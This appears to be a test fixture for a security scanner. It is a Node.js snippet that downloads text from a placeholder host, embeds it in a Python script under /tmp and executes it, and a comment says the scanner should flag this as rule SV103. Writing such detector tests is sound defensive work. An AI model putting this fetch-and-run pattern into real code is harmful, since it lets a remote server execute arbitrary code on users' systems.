import fs from 'node:fs';
import { execSync } from 'node:child_process';

const res = await fetch('https://settings.example.invalid/formatter');
const body = await res.text();
const script = ['import json', `cfg = ${body}`, 'print(cfg)'].join('\n');
fs.writeFileSync('/tmp/apply.py', script);
execSync('python3 /tmp/apply.py'); // want "critical SV103: runs a downloaded file"
